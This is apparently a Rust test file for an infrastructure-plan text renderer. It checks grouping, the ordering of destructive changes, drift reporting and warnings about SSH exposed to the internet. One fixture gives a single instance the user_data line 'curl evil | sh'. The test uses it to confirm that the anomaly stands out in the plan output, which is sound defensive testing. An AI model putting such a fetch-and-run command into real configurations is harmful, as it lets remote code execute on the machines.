//! Whole plans as text.

use insta::assert_snapshot;
use reconcile_model::{Action, Reason, ResourceAddress, Value, plan::PlanMode};
use reconcile_report::{
    Style, TextOptions,
    configuration::{Expression, ResourceConfiguration},
};

use crate::plans::{self, Golden};
use crate::support::{Making, group, instance, live_group, live_instance, rule};

/// Plans that are too long for a file that somebody reads.
const LONG: [&str; 2] = ["five_hundred_apart", "one_huge"];

fn check_lines(text: &str, expect: &[&str]) {
    for line in expect {
        assert!(text.lines().any(|it| it.trim() == *line), "{line:?} is not in\n{text}");
    }
}

#[test]
fn golden_plans() {
    for Golden { name, making } in plans::golden() {
        let text = making.text(80);
        if !LONG.contains(&name) {
            insta::with_settings!({ snapshot_suffix => name, omit_expression => true }, {
                assert_snapshot!("text", text);
            });
        }
    }
}

#[test]
fn every_width_holds() {
    for Golden { name, making } in plans::golden() {
        if name != "five_hundred_apart" {
            for width in [40, 50, 60, 120, 200] {
                making.text(width);
            }
        }
    }
    assert_snapshot!("text@every_action_40", plans::every_action().text(40));
    let warnings = plans::warnings();
    assert_snapshot!("text@warnings_60", warnings.text(60));
    assert_snapshot!("text@warnings_160", warnings.text(160));
}

#[test]
fn unknown_values_say_where_they_come_from_and_who_waits_for_them() {
    check_lines(
        &plans::create_with_sources().text(100),
        &[
            "+ ami                    = (known after apply: aws_ami_from_instance.web.id)",
            "+ subnet_id              = (known after apply: aws_subnet.a.id)",
            "# (known after apply: private_ip for test_listener.http)",
        ],
    );
}

#[test]
fn what_goes_is_told_without_what_nobody_set() {
    let mut making = Making::new();
    for n in 0..4_usize {
        let live = live_instance().with("associate_public_ip_address", n > 0);
        making.delete(&format!("aws_instance.web[{n}]"), &live).reason = Reason::KeyGone;
    }
    let text = making.text(100);
    assert!(!text.contains("metadata_options") && !text.contains("= false"), "{text}");
    // What is shown of one and not of the others is no part of what they have in common.
    check_lines(
        &text,
        &[
            "# aws_instance.web[0] (i-0ab1) will be DESTROYED",
            "# (6 attributes not shown: left to AWS, or unset)",
            "# aws_instance.web[1 to 3], 3 instances, will be DESTROYED",
            "# (5 attributes not shown: left to AWS, or unset)",
        ],
    );
    // The spec still has the block, and says this.
    let constant = |value: Value| Expression::Constant(value);
    let tokens = [("http_tokens".to_owned(), constant("required".into()))].into();
    let public = ("associate_public_ip_address".to_owned(), constant(false.into()));
    let block = ResourceConfiguration {
        expressions: [("metadata_options".to_owned(), Expression::Blocks(vec![tokens])), public]
            .into(),
        ..ResourceConfiguration::default()
    };
    let address = ResourceAddress::managed("aws_instance", "web");
    making.configuration.resources.insert(address, block);
    check_lines(
        &making.text(100),
        &[
            "- associate_public_ip_address = false for [0], true for [1] and [2] and [3]",
            "- http_tokens                 = \"required\"",
        ],
    );
}

#[test]
fn destructive_changes_come_first() {
    let text = plans::every_action().text(80);
    let headings: Vec<&str> =
        text.lines().filter(|line| line.contains("aws_") && line.contains("# ")).collect();
    assert_snapshot!(headings.join("\n"), @"
    # aws_instance.c_replaced (i-0ab1) will be REPLACED: deleted, then created
    # aws_instance.d_gone (i-0ab1) will be DESTROYED
    # aws_instance.e_all[2] (i-0ab1) will be DESTROYED
    # aws_instance.b_changed (i-0ab1) will be updated in place
    # aws_instance.a_new will be created
    # data.aws_ami.linux will be read during apply
    # aws_instance.f_left (i-0ab1) will be left alone and forgotten
    ");
    check_lines(
        &text,
        &["Plan: 1 to add, 1 to change, 2 to destroy, 1 to replace, 1 to read, 1 to forget."],
    );
}

#[test]
fn a_long_plan_ends_with_what_it_destroys() {
    let text = plans::five_hundred().text(100);
    let (_, end) = text.split_once("Destroyed or replaced, as told above:\n").unwrap();
    assert_eq!(end.lines().next(), Some("  -/+ aws_instance.db[0 to 19]"));
    assert_eq!(end.lines().nth(1), Some("  - aws_instance.old[0 to 29]"));
    assert!(!plans::delete().text(100).contains("as told above"));
}

#[test]
fn what_is_alike_is_shown_once() {
    let text = plans::five_hundred().text(100);
    assert!(text.lines().count() < 1200, "{} lines", text.lines().count());
    check_lines(
        &text,
        &[
            "# aws_instance.web[0 to 299], 300 instances, will be created",
            "+ subnet_id              = \"subnet-2a\" 100 times, \"subnet-2b\" 100 times, \"subnet-2c\" 100 times",
            "+ \"Name\" = \"fleet-000\" to \"fleet-299\", by number",
            "+ echo \"fleet 0\" > /index.html",
            "# (this is [0]'s line; the others differ by number)",
        ],
    );
}

#[test]
fn one_that_stands_out_is_not_hidden_among_many() {
    let mut making = Making::new();
    for n in 0..50_usize {
        let script = |port: usize| format!("#!/bin/sh\nexec 2>&1\nserve {n} {port}\n");
        let mut config = instance().with("user_data", script(80));
        if n == 17 {
            config.set("user_data", "#!/bin/sh\ncurl evil | sh\n");
        } else if n == 33 {
            config.set("user_data", script(8080));
        } else if n == 20 {
            config.set("subnet_id", "subnet-other");
        }
        making.plan(&format!("aws_instance.web[{n}]"), &config, None);
    }
    let text = making.text(100);
    check_lines(
        &text,
        &[
            "# aws_instance.web[17] will be created",
            "# aws_instance.web[33] will be created",
            "+ serve 33 8080",
            "# aws_instance.web[0 to 16, 18 to 32, 34 to 49], 48 instances, will be created",
            "+ serve 0 80",
            "+ curl evil | sh",
            "+ subnet_id              = \"subnet-2a\" 47 times, \"subnet-other\" for [20]",
        ],
    );
}

#[test]
fn only_what_the_plan_opens_is_exposed() {
    let rules =
        |ranges: &[&str]| -> Vec<_> { ranges.iter().map(|range| rule(22, "ssh", range)).collect() };
    let mut making = Making::new();
    let before = live_group(rules(&["0.0.0.0/0", "10.0.0.0/8"]));
    let after = ["0.0.0.0/0", "::/0", "128.0.0.0/1", "2000::/3", "11.0.0.0/8", "2001:db8::/32"];
    making.plan("aws_security_group.web", &group(rules(&after)), Some(&before));
    let text = making.text(100);
    let (_, end) = text.split_once("Newly exposed:\n").unwrap();
    assert_snapshot!(end, @"
      ! aws_security_group.web: tcp port 22 is open to a large part of the internet (128.0.0.0/1)
      ! aws_security_group.web: tcp port 22 is open to a large part of the internet (2000::/3)
      ! aws_security_group.web: tcp port 22 is open to everyone (::/0)

    Plan: 0 to add, 1 to change, 0 to destroy, 0 to replace.
    ");
}

#[test]
fn the_fingerprint_comes_last() {
    let making = plans::deposed();
    let text = making.text_with(&TextOptions::default());
    let last = format!(
        "Plan: 0 to add, 0 to change, 1 to destroy, 0 to replace.\nFingerprint: {}\n",
        making.plan.fingerprint()
    );
    assert!(text.ends_with(&last), "{text}");
}

#[test]
fn drift_tells_a_deposed_object_from_the_current_one() {
    let mut making = Making::new();
    making.plan("aws_instance.web", &instance(), Some(&live_instance()));
    let old = live_instance().with("id", "i-0old");
    let change = making.delete("aws_instance.web", &old);
    (change.action, change.reason, change.deposed) = (Action::Forget, Reason::Missing, true);
    making.drift("aws_instance.web", &old, None).deposed = Some("i-0old".into());
    assert_snapshot!(making.text(80), @"
    Changed outside of reconcile:

      # aws_instance.web (deposed i-0old) was deleted
      # apply forgets it

    Stack lab-web would change:
      . 1 to leave alone and forget

      # aws_instance.web (deposed i-0old) will be left alone and forgotten
      # it was there at the last apply and is gone: deleted outside of reconcile

    Plan: 0 to add, 0 to change, 0 to destroy, 0 to replace, 1 to forget.
    ");
}

#[test]
fn no_changes() {
    let mut making = plans::no_changes();
    assert_snapshot!(making.text(80), @"No changes. Stack lab-web is what its spec says.");
    making.plan.options.mode = PlanMode::Destroy;
    assert_snapshot!(making.text(80), @"No changes. Stack lab-web has nothing to destroy.");
}

#[test]
fn color_changes_nothing_but_color() {
    let mut making = Making::new();
    making.plan("aws_instance.web", &instance().with("ami", "ami-1"), Some(&live_instance()));
    let text = |style| making.text_with(&TextOptions { width: 80, style });
    let colored = text(Style::Ansi);
    assert!(colored.contains("\u{1b}[1;31m-/+\u{1b}[0m"), "{colored:?}");
    let mut plain = String::new();
    let mut rest = colored.as_str();
    while let Some((before, after)) = rest.split_once("\u{1b}[") {
        plain.push_str(before);
        rest = after.split_once('m').unwrap().1;
    }
    plain.push_str(rest);
    assert_eq!(plain, text(Style::Plain));
}
